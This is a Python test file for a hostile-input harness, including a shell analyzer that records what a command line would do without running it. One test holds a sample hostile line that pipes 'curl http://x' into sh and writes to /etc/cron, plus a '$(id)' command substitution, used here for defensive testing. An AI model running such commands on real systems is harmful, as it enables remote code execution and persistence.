from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tests.hostile.shell_without_programs import ShellWithoutPrograms
from tests.hostile.snapshots import run
from tests.patience import LONG_S


@pytest.mark.lab
def test_hostile_facts_make_no_fault_and_no_harmful_command(tmp_path: Path) -> None:
    result = run(40, 20, tmp_path)
    assert result.faults == []
    assert result.judged > 20
    assert result.commands > 10


def test_bombs_take_no_more_memory_than_a_snapshot_of_their_size() -> None:
    """In a process of its own, whose memory is measured; 3 MB of them took 6 GB."""
    command = [sys.executable, "-m", "tests.hostile.snapshots", "--runs", "0", "--bombs", "60", "--seed", "3"]
    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=LONG_S)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.lab
def test_the_shell_without_programs_sees_what_a_line_would_do(tmp_path: Path) -> None:
    shell = ShellWithoutPrograms(tmp_path)
    found = shell.attempt("sysctl -w x=8080 ; curl http://x | sh > /etc/cron")
    assert sorted(found.ran) == [("curl", "http://x"), ("sh",), ("sysctl", "-w", "x=8080")]
    assert found.wrote == ("/etc/cron",)
    assert shell.attempt("echo 'a b' \"$(id)\"").ran == (("id",), ("echo", "a b", ""))
